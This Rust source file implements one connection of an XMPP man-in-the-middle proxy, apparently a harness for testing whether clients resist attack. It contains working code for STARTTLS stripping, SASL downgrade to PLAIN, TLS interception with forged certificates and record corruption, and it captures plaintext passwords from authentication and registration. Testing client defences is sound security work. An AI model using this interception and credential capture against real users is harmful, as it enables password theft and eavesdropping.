//! One proxied connection: reach the server, run the attacks' set-up, pump
//! both directions, and say at the end what the attacker obtained.
//!
//! Each direction is a pump: read, cut into units ([`crate::xmpp::Half`]),
//! look at each unit (and change it, for an attack), write it on. The
//! pumps record what they saw in [`Facts`]; the verdict is computed from
//! them once both directions have closed.
//!
//! `strip-starttls` needs more than a pump: when the server offers
//! STARTTLS, the proxy answers for the client. It sends `<starttls/>`
//! itself, encrypts the server leg, restarts the stream, and shows the
//! client the features of the encrypted stream, which offer no STARTTLS and
//! every SASL mechanism. That set-up runs first, in order, then the pumps.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;
use protocol::sasl;
use protocol::{Element, Node, ns};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::attack::Attack;
use crate::event::{Dir, Event, summarize};
use crate::proxy::Shared;
use crate::records::Records;
use crate::tls;
use crate::xmpp::{Half, Piece, RawReason, Unit};

/// How long reaching the server, and the strip set-up, may take.
const SETUP_LIMIT: Duration = Duration::from_secs(10);

/// Bytes read at a time from either side.
const READ_CHUNK: usize = 16 * 1024;

/// Any byte stream the proxy relays: TCP, or TLS to the server.
trait Stream: AsyncRead + AsyncWrite + Unpin + Send {}
impl<T: AsyncRead + AsyncWrite + Unpin + Send> Stream for T {}

/// What the pumps saw, for the verdict.
#[derive(Debug, Default)]
pub struct Facts {
    /// The server offered STARTTLS (in features the proxy saw).
    pub starttls_offered: bool,
    /// The proxy removed it from what the client saw.
    pub starttls_stripped: bool,
    /// The proxy replaced the SASL mechanisms with PLAIN.
    pub mechanisms_replaced: bool,
    /// The client sent `<starttls/>`.
    pub client_starttls: bool,
    /// Where the client-to-server direction became TLS.
    pub tls_at: Option<u64>,
    /// The client spoke TLS from its first byte.
    pub direct_tls: bool,
    /// The mechanism the client authenticated with, in the clear.
    pub mechanism: Option<String>,
    /// A password read off the wire: (user, where).
    pub password: Option<(String, String)>,
    /// Stanzas read in the clear, each way.
    pub stanzas: u64,
    /// TLS application-data records seen: (from the client, from the server).
    pub records: (u64, u64),
    /// `corrupt-tls` flipped its bit; the server's record count then.
    pub flipped: Option<u64>,
    /// `intercept-tls`: the client accepted the forged certificate.
    pub intercepted: bool,
    /// `intercept-tls`: the client refused it, and why.
    pub cert_refused: Option<String>,
}

/// Relays one client connection until both sides have closed.
pub async fn handle(conn: u64, client: TcpStream, peer: SocketAddr, shared: Arc<Shared>) {
    let upstream =
        match tokio::time::timeout(SETUP_LIMIT, TcpStream::connect(shared.upstream)).await {
            Ok(Ok(s)) => s,
            Ok(Err(e)) => {
                shared.report.emit(Event::UpstreamDown {
                    conn,
                    upstream: shared.upstream.to_string(),
                    error: e.to_string(),
                });
                return;
            }
            Err(_) => {
                shared.report.emit(Event::UpstreamDown {
                    conn,
                    upstream: shared.upstream.to_string(),
                    error: format!("no answer within {} s", SETUP_LIMIT.as_secs()),
                });
                return;
            }
        };
    let _ = client.set_nodelay(true);
    let _ = upstream.set_nodelay(true);
    shared.report.emit(Event::Connection {
        conn,
        client: peer.to_string(),
        upstream: shared.upstream.to_string(),
    });
    let facts = Arc::new(Mutex::new(Facts::default()));
    let c = Conn {
        id: conn,
        shared: shared.clone(),
        facts: facts.clone(),
    };
    let mut up_half = Half::new();
    let mut down_half = Half::new();
    let mut client = client;
    if shared.attacks.contains(&Attack::InterceptTls) {
        let setup = c.intercept_setup(client, upstream, &mut up_half, &mut down_half);
        match tokio::time::timeout(SETUP_LIMIT, setup).await {
            Ok(Ok(Some((client, server)))) => {
                let (client_rd, client_wr) = tokio::io::split(client);
                let (server_rd, server_wr) = tokio::io::split(server);
                let up = c.pump(Dir::ClientToServer, client_rd, server_wr, &mut up_half);
                let down = c.pump(Dir::ServerToClient, server_rd, client_wr, &mut down_half);
                tokio::join!(up, down);
            }
            // The client refused the certificate: nothing more to relay.
            Ok(Ok(None)) => {}
            Ok(Err(e)) => c.report_attack(Attack::InterceptTls, format!("set-up failed: {e}")),
            Err(_) => c.report_attack(Attack::InterceptTls, "set-up timed out".into()),
        }
        c.finish(&up_half, &down_half);
        return;
    }
    let server: Box<dyn Stream> = if shared.attacks.contains(&Attack::StripStarttls) {
        let setup = c.strip_setup(&mut client, upstream, &mut up_half, &mut down_half);
        match tokio::time::timeout(SETUP_LIMIT, setup).await {
            Ok(Ok(s)) => s,
            Ok(Err(e)) => {
                c.report_attack(Attack::StripStarttls, format!("set-up failed: {e}"));
                c.finish(&up_half, &down_half);
                return;
            }
            Err(_) => {
                c.report_attack(Attack::StripStarttls, "set-up timed out".into());
                c.finish(&up_half, &down_half);
                return;
            }
        }
    } else {
        Box::new(upstream)
    };
    let (client_rd, client_wr) = tokio::io::split(client);
    let (server_rd, server_wr) = tokio::io::split(server);
    let up = c.pump(Dir::ClientToServer, client_rd, server_wr, &mut up_half);
    let down = c.pump(Dir::ServerToClient, server_rd, client_wr, &mut down_half);
    tokio::join!(up, down);
    c.finish(&up_half, &down_half);
}

/// One connection's context for its pumps.
struct Conn {
    id: u64,
    shared: Arc<Shared>,
    facts: Arc<Mutex<Facts>>,
}

impl Conn {
    fn facts(&self) -> std::sync::MutexGuard<'_, Facts> {
        self.facts.lock().unwrap_or_else(|p| p.into_inner())
    }

    fn report_attack(&self, attack: Attack, did: String) {
        self.shared.report.emit(Event::Attack {
            conn: self.id,
            attack,
            did,
        });
    }

    /// Reads, inspects and forwards one direction until it closes.
    async fn pump<R, W>(&self, dir: Dir, mut rd: R, mut wr: W, half: &mut Half)
    where
        R: AsyncRead + Unpin,
        W: AsyncWrite + Unpin,
    {
        let mut buf = vec![0u8; READ_CHUNK];
        // corrupt-tls changes the client's records only.
        let target = (dir == Dir::ClientToServer
            && self.shared.attacks.contains(&Attack::CorruptTls))
        .then_some(self.shared.corrupt_record);
        let mut records = Records::new(target);
        loop {
            let n = match rd.read(&mut buf).await {
                Ok(0) | Err(_) => break,
                Ok(n) => n,
            };
            let was_raw = half.raw_since().is_some();
            let pieces = half.push(&buf[..n]);
            let mut out = Vec::with_capacity(n);
            let tls = matches!(
                half.raw_since(),
                Some((_, RawReason::Tls | RawReason::DirectTls))
            );
            for mut piece in pieces {
                if tls && piece.unit == Unit::Raw {
                    self.follow_records(dir, &mut records, &mut piece.bytes);
                }
                self.inspect(dir, piece, &mut out);
            }
            if !was_raw && let Some((at, reason)) = half.raw_since() {
                self.opaque(dir, *at, reason);
            }
            if wr.write_all(&out).await.is_err() || wr.flush().await.is_err() {
                break;
            }
        }
        // Pass the close on: the far side sees the end of the stream.
        let _ = wr.shutdown().await;
    }

    /// Counts the TLS records going past, and flips `corrupt-tls`' bit.
    fn follow_records(&self, dir: Dir, records: &mut Records, bytes: &mut [u8]) {
        let before = records.flipped();
        records.track(bytes);
        let mut f = self.facts();
        match dir {
            Dir::ClientToServer => f.records.0 = records.app_data(),
            Dir::ServerToClient => f.records.1 = records.app_data(),
        }
        if records.flipped() && !before {
            f.flipped = Some(f.records.1);
            drop(f);
            self.report_attack(
                Attack::CorruptTls,
                format!(
                    "flipped one bit of TLS application-data record #{} from the client",
                    self.shared.corrupt_record
                ),
            );
        }
    }

    /// Records and reports where a direction stopped being readable.
    fn opaque(&self, dir: Dir, at: u64, reason: &RawReason) {
        let why = match reason {
            RawReason::Tls => "TLS".to_string(),
            RawReason::DirectTls => "direct TLS from the first byte".to_string(),
            RawReason::Unreadable(e) => format!("not readable XMPP ({e})"),
        };
        if dir == Dir::ClientToServer {
            let mut f = self.facts();
            match reason {
                RawReason::Tls => f.tls_at = Some(at),
                RawReason::DirectTls => f.direct_tls = true,
                RawReason::Unreadable(_) => {}
            }
        }
        self.shared.report.emit(Event::Opaque {
            conn: self.id,
            dir,
            at_byte: at,
            reason: why,
        });
    }

    /// Looks at one unit, applies the attacks to it, and appends what is to
    /// be forwarded to `out`.
    fn inspect(&self, dir: Dir, piece: Piece, out: &mut Vec<u8>) {
        match piece.unit {
            Unit::Header(h) => {
                self.shared.report.emit(Event::Stream {
                    conn: self.id,
                    dir,
                    to: h.to.clone(),
                    from: h.from.clone(),
                });
                out.extend_from_slice(&piece.bytes);
            }
            Unit::Element(el) => {
                self.facts().stanzas += 1;
                // The server's features may be changed by an attack: the
                // line shows what the client really gets.
                let changed = match dir {
                    Dir::ClientToServer => None,
                    Dir::ServerToClient => self.server_element(&el),
                };
                let shown = changed.as_ref().unwrap_or(&el);
                self.shared.report.emit(Event::Stanza {
                    conn: self.id,
                    dir,
                    stanza: summarize(shown),
                });
                if dir == Dir::ClientToServer {
                    self.client_element(&el);
                }
                match changed {
                    Some(new) => out.extend_from_slice(new.to_xml().as_bytes()),
                    None => out.extend_from_slice(&piece.bytes),
                }
            }
            Unit::Close | Unit::Raw => out.extend_from_slice(&piece.bytes),
        }
    }

    /// What the client sends: the secrets the attacker is after.
    fn client_element(&self, el: &Element) {
        if el.is("starttls", ns::TLS) {
            self.facts().client_starttls = true;
        } else if el.is("auth", ns::SASL) {
            let mech = el.get_attr("mechanism").unwrap_or("").to_string();
            self.facts().mechanism = Some(mech.clone());
            if mech == "PLAIN"
                && let Ok(raw) = B64.decode(el.text_content().trim())
                && let Ok(creds) = sasl::parse_plain(&raw)
            {
                self.captured(creds.username, creds.password, "SASL PLAIN");
            }
        } else if let Some(q) = el
            .get_child("query", ns::REGISTER)
            .filter(|_| el.name == "iq" && el.get_attr("type") == Some("set"))
            && let (Some(user), Some(password)) = (
                q.child_text("username", ns::REGISTER),
                q.child_text("password", ns::REGISTER),
            )
        {
            self.captured(user, password, "registration");
        }
    }

    fn captured(&self, user: String, secret: String, source: &str) {
        self.facts().password = Some((user.clone(), source.to_string()));
        self.shared.report.emit(Event::Captured {
            conn: self.id,
            what: "password".into(),
            user,
            secret,
            source: source.into(),
        });
    }

    /// What the server sends: the features are where STARTTLS and the SASL
    /// mechanisms are offered, so that is where the attacks cut. Returns
    /// the element to send instead, if it was changed.
    fn server_element(&self, el: &Element) -> Option<Element> {
        if !el.is("features", ns::STREAM) {
            return None;
        }
        if el.has_child("starttls", ns::TLS) {
            self.facts().starttls_offered = true;
        }
        let mut new = el.clone();
        let mut changed = false;
        if self.shared.attacks.contains(&Attack::StripStarttls)
            && new.has_child("starttls", ns::TLS)
        {
            new.children
                .retain(|n| !matches!(n, Node::Element(c) if c.is("starttls", ns::TLS)));
            self.facts().starttls_stripped = true;
            self.report_attack(
                Attack::StripStarttls,
                "removed <starttls/> from the features the client sees".into(),
            );
            changed = true;
        }
        if self.shared.attacks.contains(&Attack::DowngradeSasl)
            && let Some(mechs) = new.get_child_mut("mechanisms", ns::SASL)
        {
            let offered: Vec<String> = mechs
                .elements()
                .filter(|m| m.name == "mechanism")
                .map(Element::text_content)
                .collect();
            if offered.iter().any(|m| m == "PLAIN") && offered.len() > 1 {
                mechs
                    .children
                    .retain(|n| !matches!(n, Node::Element(m) if m.name == "mechanism" && m.text_content() != "PLAIN"));
                self.facts().mechanisms_replaced = true;
                self.report_attack(
                    Attack::DowngradeSasl,
                    format!(
                        "offered the client only PLAIN instead of {}",
                        offered.join(", ")
                    ),
                );
                changed = true;
            }
        }
        changed.then_some(new)
    }

    /// `strip-starttls`' set-up: relay the client's stream header, and if
    /// the server offers STARTTLS, take it in the client's place. Returns
    /// the server leg to pump (encrypted, if the proxy upgraded it).
    async fn strip_setup(
        &self,
        client: &mut TcpStream,
        mut server: TcpStream,
        up: &mut Half,
        down: &mut Half,
    ) -> std::io::Result<Box<dyn Stream>> {
        // The client's stream header, relayed as it is.
        let header = loop {
            let pieces = read_pieces(client, up).await?;
            let mut out = Vec::new();
            let mut header = None;
            for p in pieces {
                if matches!(p.unit, Unit::Header(_)) {
                    header = Some(p.clone());
                }
                self.inspect(Dir::ClientToServer, p, &mut out);
            }
            server.write_all(&out).await?;
            if let Some(h) = header {
                break h;
            }
            if up.raw_since().is_some() {
                // Direct TLS or not XMPP: nothing here to strip.
                if let Some((at, reason)) = up.raw_since() {
                    self.opaque(Dir::ClientToServer, *at, reason);
                }
                return Ok(Box::new(server));
            }
        };
        let domain = match &header.unit {
            Unit::Header(h) => h.to.clone().unwrap_or_else(|| "localhost".into()),
            _ => "localhost".into(),
        };
        // The server's header goes to the client; its features decide.
        let features = loop {
            let pieces = read_pieces(&mut server, down).await?;
            let mut out = Vec::new();
            let mut features = None;
            for p in pieces {
                match &p.unit {
                    Unit::Element(e) if e.is("features", ns::STREAM) => features = Some(e.clone()),
                    _ => self.inspect(Dir::ServerToClient, p, &mut out),
                }
            }
            client.write_all(&out).await?;
            if let Some(f) = features {
                break f;
            }
        };
        if !features.has_child("starttls", ns::TLS) {
            // Nothing to strip: pass the features on (other attacks apply).
            let mut out = Vec::new();
            self.inspect(
                Dir::ServerToClient,
                Piece {
                    bytes: features.to_xml().into_bytes(),
                    unit: Unit::Element(features),
                },
                &mut out,
            );
            client.write_all(&out).await?;
            return Ok(Box::new(server));
        }
        self.facts().starttls_offered = true;
        let required = features
            .get_child("starttls", ns::TLS)
            .is_some_and(|s| s.has_child("required", ns::TLS));
        // Take STARTTLS in the client's place.
        server
            .write_all(b"<starttls xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>")
            .await?;
        loop {
            let pieces = read_pieces(&mut server, down).await?;
            if pieces
                .iter()
                .any(|p| matches!(&p.unit, Unit::Element(e) if e.is("proceed", ns::TLS)))
            {
                break;
            }
            if pieces
                .iter()
                .any(|p| matches!(&p.unit, Unit::Element(e) if e.is("failure", ns::TLS)))
            {
                return Err(std::io::Error::other("the server refused STARTTLS"));
            }
        }
        let mut server = tls::connect(server, &domain, self.shared.keylog.clone()).await?;
        self.facts().starttls_stripped = true;
        self.report_attack(
            Attack::StripStarttls,
            "removed <starttls/> from the features the client sees".into(),
        );
        self.report_attack(
            Attack::StripStarttls,
            format!(
                "took STARTTLS in the client's place: the server leg is encrypted{}",
                if required {
                    " (the server required it, and sees an encrypted client)"
                } else {
                    ""
                }
            ),
        );
        // The encrypted stream starts over with the client's own header.
        server.write_all(&header.bytes).await?;
        *down = Half::new();
        loop {
            let pieces = read_pieces(&mut server, down).await?;
            let mut out = Vec::new();
            let mut done = false;
            for p in pieces {
                match &p.unit {
                    // The client already has a stream header: it sees only
                    // the new features, STARTTLS gone.
                    Unit::Header(_) => {}
                    Unit::Element(e) if e.is("features", ns::STREAM) => {
                        // The encrypted stream's features offer no STARTTLS
                        // (and every mechanism: downgrade-sasl applies).
                        self.inspect(Dir::ServerToClient, p.clone(), &mut out);
                        done = true;
                    }
                    _ => self.inspect(Dir::ServerToClient, p, &mut out),
                }
            }
            client.write_all(&out).await?;
            if done {
                return Ok(Box::new(server));
            }
        }
    }

    /// `intercept-tls`' set-up: relay in the clear up to the switch to TLS
    /// (or take direct TLS at once), end the client's TLS with a forged
    /// certificate, and open TLS to the server. `None` when the client
    /// refused the certificate.
    async fn intercept_setup(
        &self,
        mut client: TcpStream,
        mut server: TcpStream,
        up: &mut Half,
        down: &mut Half,
    ) -> std::io::Result<Option<(Box<dyn Stream>, Box<dyn Stream>)>> {
        let Some(forger) = self.shared.forger.clone() else {
            return Err(std::io::Error::other("no certificate source"));
        };
        let mut first = [0u8; 1];
        if client.peek(&mut first).await? == 0 {
            return Err(std::io::Error::new(
                std::io::ErrorKind::UnexpectedEof,
                "the client closed the connection",
            ));
        }
        let mut hint = None;
        if first[0] != 0x16 {
            // STARTTLS: the stream runs in the clear up to the switch. The
            // proxy relays it (reading it), then takes over at `<proceed/>`.
            let mut starttls = false;
            while !starttls {
                let pieces = read_pieces(&mut client, up).await?;
                let mut out = Vec::new();
                for p in pieces {
                    match &p.unit {
                        Unit::Header(h) => hint = h.to.clone(),
                        Unit::Element(e) if e.is("starttls", protocol::ns::TLS) => starttls = true,
                        _ => {}
                    }
                    self.inspect(Dir::ClientToServer, p, &mut out);
                }
                server.write_all(&out).await?;
                if up.raw_since().is_some() && !starttls {
                    // Not XMPP as expected: leave it to the pumps.
                    return Ok(Some((Box::new(client), Box::new(server))));
                }
                if !starttls {
                    // The server's answer to what the client said (its
                    // header and features, or an error).
                    let pieces = read_pieces(&mut server, down).await?;
                    let mut out = Vec::new();
                    for p in pieces {
                        self.inspect(Dir::ServerToClient, p, &mut out);
                    }
                    client.write_all(&out).await?;
                }
            }
            loop {
                let pieces = read_pieces(&mut server, down).await?;
                let proceed = pieces.iter().any(
                    |p| matches!(&p.unit, Unit::Element(e) if e.is("proceed", protocol::ns::TLS)),
                );
                let mut out = Vec::new();
                for p in pieces {
                    self.inspect(Dir::ServerToClient, p, &mut out);
                }
                client.write_all(&out).await?;
                if proceed {
                    break;
                }
            }
        }
        // The client's TLS, answered with a certificate for the name it asks.
        let start =
            tokio_rustls::LazyConfigAcceptor::new(rustls::server::Acceptor::default(), client)
                .await?;
        let name = start
            .client_hello()
            .server_name()
            .map(str::to_string)
            .or(hint)
            .unwrap_or_else(|| "localhost".into());
        let config = forger
            .server_config(&name, self.shared.keylog.clone())
            .map_err(std::io::Error::other)?;
        let client_tls = match start.into_stream(config).await {
            Ok(t) => t,
            Err(e) => {
                self.facts().cert_refused = Some(e.to_string());
                self.report_attack(
                    Attack::InterceptTls,
                    format!("the client refused {} for {name}: {e}", forger.kind),
                );
                return Ok(None);
            }
        };
        self.facts().intercepted = true;
        self.report_attack(
            Attack::InterceptTls,
            format!(
                "the client accepted {} for {name}: both legs are now read in the clear",
                forger.kind
            ),
        );
        let server_tls = tls::connect(server, &name, self.shared.keylog.clone()).await?;
        // Both legs start their streams over, now inside TLS.
        *up = Half::new();
        *down = Half::new();
        Ok(Some((Box::new(client_tls), Box::new(server_tls))))
    }

    /// Reports the end of the connection and the verdict of each attack.
    fn finish(&self, up: &Half, down: &Half) {
        self.shared.report.emit(Event::Closed {
            conn: self.id,
            bytes_up: up.total(),
            bytes_down: down.total(),
        });
        let facts = self.facts();
        for attack in &self.shared.attacks {
            let (outcome, defeated) = verdict(*attack, &facts, self.shared.corrupt_record);
            self.shared
                .record_verdict(self.id, *attack, &outcome, defeated);
            self.shared.report.emit(Event::Verdict {
                conn: self.id,
                attack: *attack,
                outcome,
                defeated,
            });
        }
    }
}

/// Reads once and cuts what came into units; an end of stream is an error
/// here (the set-up needs the next unit).
async fn read_pieces<S: AsyncRead + Unpin>(
    s: &mut S,
    half: &mut Half,
) -> std::io::Result<Vec<Piece>> {
    let mut buf = vec![0u8; READ_CHUNK];
    let n = s.read(&mut buf).await?;
    if n == 0 {
        return Err(std::io::Error::new(
            std::io::ErrorKind::UnexpectedEof,
            "the peer closed the connection",
        ));
    }
    Ok(half.push(&buf[..n]))
}

/// What an attack obtained, in one line, and whether it was defeated.
pub fn verdict(attack: Attack, f: &Facts, corrupt_record: u64) -> (String, bool) {
    let password = f
        .password
        .as_ref()
        .map(|(user, source)| format!("password of {user} captured ({source})"));
    match attack {
        Attack::Relay => {
            if f.direct_tls {
                (
                    "direct TLS from the first byte: only sizes and timing readable".into(),
                    true,
                )
            } else if let Some(p) = password {
                (
                    format!("read {} in the clear; {p}", stanzas(f.stanzas)),
                    false,
                )
            } else if let Some(at) = f.tls_at {
                (
                    format!(
                        "TLS from byte {at}: {} read before it, nothing after",
                        stanzas(f.stanzas)
                    ),
                    true,
                )
            } else {
                (format!("read {} in the clear", stanzas(f.stanzas)), false)
            }
        }
        Attack::StripStarttls => {
            if f.direct_tls {
                (
                    "nothing to strip: the client used direct TLS: attack defeated".into(),
                    true,
                )
            } else if !f.starttls_offered {
                (
                    "nothing to strip: the server offered no STARTTLS".into(),
                    false,
                )
            } else if let Some(p) = password {
                (format!("client went on in plaintext; {p}"), false)
            } else if let Some(m) = &f.mechanism {
                (
                    format!(
                        "client went on in plaintext; its {m} exchange captured (no password in it)"
                    ),
                    false,
                )
            } else {
                (
                    "client refused (no STARTTLS offered): attack defeated".into(),
                    true,
                )
            }
        }
        Attack::CorruptTls => corrupt_verdict(f, corrupt_record),
        Attack::InterceptTls => {
            if let Some(why) = &f.cert_refused {
                (
                    format!("client refused the forged certificate ({why}): attack defeated"),
                    true,
                )
            } else if f.intercepted {
                match password {
                    Some(p) => (
                        format!("client accepted the forged certificate; {p}"),
                        false,
                    ),
                    None => (
                        format!(
                            "client accepted the forged certificate; read {} inside its TLS",
                            stanzas(f.stanzas)
                        ),
                        false,
                    ),
                }
            } else {
                (
                    "the client never started TLS: nothing to intercept".into(),
                    false,
                )
            }
        }
        Attack::DowngradeSasl => {
            if !f.mechanisms_replaced {
                if f.direct_tls || f.tls_at.is_some() {
                    (
                        "nothing to downgrade: authentication ran inside TLS: attack defeated"
                            .into(),
                        true,
                    )
                } else {
                    (
                        "nothing to downgrade: no choice of mechanisms was seen".into(),
                        false,
                    )
                }
            } else if let Some(p) = password {
                (format!("client accepted PLAIN; {p}"), false)
            } else if let Some(m) = &f.mechanism {
                (format!("client used {m} anyway: attack defeated"), true)
            } else {
                ("client refused PLAIN: attack defeated".into(), true)
            }
        }
    }
}

/// `corrupt-tls`' outcome: a flipped record must end the connection.
fn corrupt_verdict(f: &Facts, target: u64) -> (String, bool) {
    match f.flipped {
        Some(server_records_then) => {
            // After a bad record the server sends at most its alert.
            let after = f.records.1.saturating_sub(server_records_then);
            if after <= 1 {
                (
                    format!(
                        "flipped one bit of record #{target} from the client: the connection \
                         ended there (the server's AEAD check failed): TLS detected the change"
                    ),
                    true,
                )
            } else {
                (
                    format!(
                        "flipped one bit of record #{target}, and {after} records still came \
                         from the server: the change went unnoticed"
                    ),
                    false,
                )
            }
        }
        None if f.records.0 == 0 => ("no TLS to corrupt: the stream was plaintext".into(), false),
        None => (
            format!(
                "the connection ended after {} records from the client, before record #{target}",
                f.records.0
            ),
            false,
        ),
    }
}

/// "1 stanza", "18 stanzas".
fn stanzas(n: u64) -> String {
    if n == 1 {
        "1 stanza".into()
    } else {
        format!("{n} stanzas")
    }
}
